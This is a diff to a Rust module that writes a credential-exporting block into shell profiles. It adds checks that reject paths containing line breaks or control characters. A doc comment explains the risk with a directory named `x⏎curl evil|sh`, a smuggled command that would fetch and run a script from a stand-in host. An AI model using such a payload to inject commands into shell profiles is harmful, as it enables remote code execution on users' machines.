@@ -9,6 +9,16 @@
 //! several projects can each own one, and every other byte of the profile
 //! is kept. Everything here is pure (text in, text out; paths from a
 //! [`Host`]).
+//!
+//! Paths reach a profile twice: quoted per shell ([`quote`]) on the line
+//! that runs `mcpctl env`, and bare on the marker comments that delimit the
+//! block. A comment ends at a line break, so a path holding one (a checkout
+//! in a directory named `x⏎curl evil|sh`) would put its own line into the
+//! profile; [`block`] refuses such a path, and any path that is not UTF-8
+//! text (it could not be written back exactly), rather than escape it.
+//! Which variable names may be exported at all is [`exportable`]'s concern.
+
+pub mod exportable;
 
 use std::path::{Path, PathBuf};
 
@@ -103,11 +113,54 @@ fn end_marker(manifest: &Path) -> String {
     format!("# <<< mcpctl {} <<<", manifest.display())
 }
 
+/// A path the block cannot hold: mcpctl's own or the manifest's.
+#[derive(Debug, thiserror::Error, miette::Diagnostic)]
+#[error("the {what} `{shown}` {why}, which the block mcpctl keeps in a shell profile cannot hold")]
+#[diagnostic(help(
+    "move the {what} to a path of plain text without line breaks or control characters, or remove `shell-profile` from the manifest; nothing was written"
+))]
+pub struct BlockError {
+    what: &'static str,
+    /// The path with its control characters escaped (`\n`).
+    shown: String,
+    why: &'static str,
+}
+
+/// Whether a block can hold `path` on its marker comments.
+fn check_holdable(what: &'static str, path: &str) -> Result<(), BlockError> {
+    // Every Unicode line terminator, in case some shell honours one.
+    let line_breaks = [
+        '\n', '\r', '\u{0b}', '\u{0c}', '\u{85}', '\u{2028}', '\u{2029}',
+    ];
+    let why = if path.contains(line_breaks) {
+        "has a line break"
+    } else if path.contains(char::is_control) {
+        "has a control character"
+    } else {
+        return Ok(());
+    };
+    Err(BlockError {
+        what,
+        shown: path.escape_debug().to_string(),
+        why,
+    })
+}
+
 /// The block for `manifest` in `shell`'s profile: marker lines around a
-/// line that evaluates `mcpctl env`. It names only paths, never a value.
-pub fn block(shell: Shell, mcpctl: &str, manifest: &Path) -> String {
+/// line that evaluates `mcpctl env`. It names only paths, never a value;
+/// a path it cannot hold (see the module docs) is an error.
+pub fn block(shell: Shell, mcpctl: &str, manifest: &Path) -> Result<String, BlockError> {
+    let Some(manifest_text) = manifest.to_str() else {
+        return Err(BlockError {
+            what: "manifest",
+            shown: manifest.display().to_string().escape_debug().to_string(),
+            why: "is not UTF-8 text",
+        });
+    };
+    check_holdable("manifest", manifest_text)?;
+    check_holdable("mcpctl program", mcpctl)?;
     let exe = quote(shell, mcpctl);
-    let file = quote(shell, &manifest.display().to_string());
+    let file = quote(shell, manifest_text);
     let run = match shell {
         Shell::Bash | Shell::Zsh => {
             format!("eval \"$({exe} env --shell {shell} -f {file})\"")
@@ -117,11 +170,11 @@ pub fn block(shell: Shell, mcpctl: &str, manifest: &Path) -> String {
             format!("& {exe} env --shell powershell -f {file} | Out-String | Invoke-Expression")
         }
     };
-    format!(
+    Ok(format!(
         "{}\n# Managed by `mcpctl apply`: exports the credentials this project's clients reference.\n{run}\n{}\n",
         begin_marker(manifest),
         end_marker(manifest)
-    )
+    ))
 }
 
 /// The byte range of `manifest`'s block in `text` (marker lines included,
@@ -277,7 +330,7 @@ mod tests {
     #[test]
     fn blocks_are_set_in_place_appended_and_removed() {
         let manifest = Path::new("/repo/mcpctl.kdl");
-        let block = block(Shell::Zsh, "/usr/bin/mcpctl", manifest);
+        let block = block(Shell::Zsh, "/usr/bin/mcpctl", manifest).unwrap();
         assert_eq!(
             block,
             "# >>> mcpctl /repo/mcpctl.kdl >>>\n# Managed by `mcpctl apply`: exports the credentials this project's clients reference.\neval \"$('/usr/bin/mcpctl' env --shell zsh -f '/repo/mcpctl.kdl')\"\n# <<< mcpctl /repo/mcpctl.kdl <<<\n"
